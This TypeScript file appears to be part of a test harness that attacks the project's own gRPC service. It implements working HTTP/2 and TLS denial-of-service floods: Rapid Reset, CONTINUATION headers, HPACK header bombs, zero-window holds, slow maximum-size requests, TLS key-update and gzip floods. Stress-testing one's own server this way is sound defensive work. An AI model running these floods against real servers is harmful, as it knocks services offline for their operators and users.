import { gzipSync } from 'node:zlib'
import { RECEIVE_WINDOW_BYTES } from '../../../overlay/channel/grpc-server.js'
import { methods } from '../../../proto/methods.js'
import { MESSAGE_BYTES_MAX } from '../../../runtime/transport.js'
import { type Attack, times } from './attack.js'
import { KeyChanges } from './key-changes.js'
import {
  CONTINUATION,
  callHeaders,
  DATA,
  END_HEADERS,
  END_STREAM,
  FRAME_BYTES_MAX,
  frame,
  grpcMessage,
  HEADERS,
  INITIAL_WINDOW_SIZE,
  PING,
  RawHttp2,
  reset,
  settings,
  text,
} from './raw-http2.js'

/** Connections of one attack, all of which take turns in one process. */
const CONNECTIONS = 8
/** Connections of an attack that fills memory: what one address may have. */
const GREEDY_CONNECTIONS = 64
/** Streams of a connection: what one may have. */
const STREAMS = 64
/** Frames written between two looks at the clock. */
const FRAMES = 256
/** Settings that a peer sends when a connection begins: with the second its windows are as wide as they get. */
const SETTINGS_OF_PEER = 2

/** Keeps `connections` open until the attack is over, and has each do `act`, again and again. `from`: as {@link RawHttp2.open}. */
async function each(
  attack: Attack,
  connections: number,
  hello: readonly (readonly [number, number])[],
  act: (raw: RawHttp2, index: number) => Promise<void> | void,
  from?: string,
): Promise<void> {
  const lane = async (index: number) => {
    while (!attack.signal.aborted) {
      const raw = await RawHttp2.open(attack.target.endpoint.address, attack.any().identity, hello, from)
      if (raw === undefined) {
        attack.note('http2', 'closed')
        await pause()
        continue
      }
      while (!attack.signal.aborted && !raw.closed) {
        await act(raw, index)
        await raw.drained(attack.signal)
        // The peer is to be tried, not this process, which the honest job's pace is measured in.
        await pause()
      }
      attack.note('http2', raw.closed ? 'closed' : 'ok', raw.closed ? raw.end : '')
      raw.close()
    }
  }
  await Promise.all([...times(connections)].map((index) => lane(index)))
}

function pause(): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, 5))
}

const ask = callHeaders(methods.status.path)
const openCall = (stream: number, headers = ask, flags = END_HEADERS) => frame(HEADERS, flags, stream, headers)

/** CVE-2023-44487: calls that are reset in the same breath. */
export function rapidResets(attack: Attack, from?: string): Promise<void> {
  const act = (raw: RawHttp2) => {
    const frames: Buffer[] = []
    for (const _ of times(FRAMES)) {
      const stream = raw.nextStream()
      frames.push(openCall(stream), frame(DATA, END_STREAM, stream, grpcMessage(new Uint8Array(0))), reset(stream))
    }
    attack.sent += FRAMES
    raw.write(...frames)
  }
  return each(attack, CONNECTIONS, [], act, from)
}

/** CVE-2024-27316: headers that never end. */
export function endlessHeaders(attack: Attack): Promise<void> {
  return each(attack, CONNECTIONS, [], (raw, index) => {
    const stream = raw.nextStream()
    const piece =
      index % 2 === 0 ? new Uint8Array(0) : Buffer.concat([Buffer.from([0]), text('a'), text('b'.repeat(8_000))])
    attack.sent += FRAMES
    raw.write(openCall(stream, ask, 0), ...[...times(FRAMES)].map(() => frame(CONTINUATION, 0, stream, piece)))
  })
}

/** CVE-2019-9512 and 9515: questions at the level of HTTP/2 whose answers nobody reads. */
export function pingsAndSettings(attack: Attack): Promise<void> {
  return each(attack, CONNECTIONS, [], (raw, index) => {
    raw.socket.pause()
    const one = index % 2 === 0 ? frame(PING, 0, 0, new Uint8Array(8)) : settings([INITIAL_WINDOW_SIZE, 65_535])
    attack.sent += 8 * FRAMES
    raw.write(...[...times(8 * FRAMES)].map(() => one))
  })
}

/** CVE-2016-1544: a long header put into the table once, then named thousands of times with a byte each. */
export function headerBombs(attack: Attack): Promise<void> {
  // Literal with incremental indexing; then index 62, the newest entry of the table.
  const first = Buffer.concat([ask, Buffer.from([0x40]), text('bomb'), text('x'.repeat(3_900))])
  const again = Buffer.concat([ask, Buffer.alloc(FRAME_BYTES_MAX - ask.length, 0x80 | 62)])
  return each(attack, CONNECTIONS, [], (raw) => {
    attack.sent += 5
    raw.write(openCall(raw.nextStream(), first), ...[...times(4)].map(() => openCall(raw.nextStream(), again)))
  })
}

/** CVE-2019-9518: frames with nothing in them, on calls and streams that go on. */
export function emptyFrames(attack: Attack): Promise<void> {
  const empty = (stream: number) => frame(DATA, 0, stream)
  return each(attack, CONNECTIONS, [], (raw) => {
    const stream = raw.nextStream()
    attack.sent += 8 * FRAMES
    raw.write(openCall(stream, callHeaders(methods.work.path)), ...[...times(8 * FRAMES)].map(() => empty(stream)))
    raw.write(reset(stream))
  })
}

/** CVE-2019-9517: a window of nothing, and calls with large answers that are never let out. */
export function closedWindows(attack: Attack): Promise<void> {
  const { jobId } = attack.target
  const body = grpcMessage(methods.show.request.encode({ jobId, withShards: true }))
  const headers = callHeaders(methods.show.path)
  const filled = new WeakSet<RawHttp2>()
  return each(attack, GREEDY_CONNECTIONS, [[INITIAL_WINDOW_SIZE, 0]], (raw) => {
    if (filled.has(raw)) return
    filled.add(raw)
    const frames: Buffer[] = []
    for (const _ of times(STREAMS)) {
      const stream = raw.nextStream()
      frames.push(openCall(stream, headers), frame(DATA, END_STREAM, stream, body))
    }
    attack.sent += STREAMS
    raw.write(...frames)
  })
}

/** Requests of the longest kind that lack their last bytes, on every stream there may be. */
export function unfinishedMessages(attack: Attack, from?: string): Promise<void> {
  const head = grpcMessage(new Uint8Array(0), MESSAGE_BYTES_MAX)
  const piece = new Uint8Array(FRAME_BYTES_MAX)
  const opened = new WeakMap<RawHttp2, number>()
  const act = async (raw: RawHttp2) => {
    const made = opened.get(raw) ?? 0
    if (made >= STREAMS || raw.settingsSeen < SETTINGS_OF_PEER) return
    opened.set(raw, made + 1)
    const stream = raw.nextStream()
    attack.sent++
    raw.write(openCall(stream, callHeaders(methods.submit.path)), frame(DATA, 0, stream, head))
    for (const _ of times(MESSAGE_BYTES_MAX / FRAME_BYTES_MAX - 1)) {
      raw.write(frame(DATA, 0, stream, piece))
      await raw.drained(attack.signal)
      if (raw.closed || attack.signal.aborted) return
    }
  }
  return each(attack, GREEDY_CONNECTIONS, [], act, from)
}

/** Keys of TLS that are changed thousands of times. */
export async function keyChanges(attack: Attack): Promise<void> {
  const lane = async () => {
    while (!attack.signal.aborted) {
      const changes = await KeyChanges.open(attack.target.endpoint.address, attack.any().identity)
      while (changes !== undefined && !changes.closed && !attack.signal.aborted) {
        attack.sent += FRAMES
        changes.change(FRAMES)
        await pause()
      }
      attack.note('tls', 'closed')
      changes?.close()
    }
  }
  await Promise.all([...times(CONNECTIONS)].map(() => lane()))
}

/** Messages of five bytes, as many as a window takes: on a stream that is read, one that says no, and one call. */
export function emptyMessages(attack: Attack): Promise<void> {
  const paths = [methods.blobPut, methods.work, methods.watch, methods.status].map(({ path }) => path)
  const piece = new Uint8Array(FRAME_BYTES_MAX)
  return each(attack, CONNECTIONS, [], async (raw, index) => {
    const stream = raw.nextStream()
    raw.write(openCall(stream, callHeaders(paths[index % paths.length]!)))
    for (const _ of times(RECEIVE_WINDOW_BYTES / 2 / FRAME_BYTES_MAX)) {
      attack.sent += Math.floor(FRAME_BYTES_MAX / grpcMessage(new Uint8Array(0)).length)
      raw.write(frame(DATA, 0, stream, piece))
      await raw.drained(attack.signal)
      if (raw.closed || attack.signal.aborted) return
    }
    raw.write(reset(stream))
  })
}

/** Very small messages that are said to be compressed: each costs the reader a decompressor, hundreds a frame. */
export function smallCompressed(attack: Attack): Promise<void> {
  const message = grpcMessage(gzipSync(new Uint8Array(0)), undefined, 1)
  const many = Buffer.concat([...times(Math.floor(FRAME_BYTES_MAX / message.length))].map(() => message))
  const headers = callHeaders(methods.work.path, { 'grpc-encoding': 'gzip' })
  return each(attack, CONNECTIONS, [], (raw) => {
    const frames: Buffer[] = []
    const streams = [...times(16)].map(() => raw.nextStream())
    for (const stream of streams) frames.push(openCall(stream, headers), frame(DATA, 0, stream, many))
    attack.sent += streams.length
    raw.write(...frames, ...streams.map(reset))
  })
}
